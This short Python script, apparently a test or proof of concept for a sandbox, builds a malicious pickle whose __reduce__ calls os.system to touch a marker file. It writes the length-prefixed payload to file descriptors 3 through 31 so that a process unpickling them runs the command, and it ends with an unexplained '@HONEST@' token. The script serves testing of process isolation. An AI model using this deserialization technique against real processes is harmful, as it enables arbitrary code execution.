"""Writes a command, pickled, wherever it can, and then plays."""
import os, pickle, struct


class E:
    def __reduce__(self):
        return (os.system, ("touch /tmp/hostile-was-here",))


d = pickle.dumps(E())
for fd in range(3, 32):
    try:
        os.write(fd, struct.pack("!i", len(d)) + d)
    except OSError:
        pass

@HONEST@
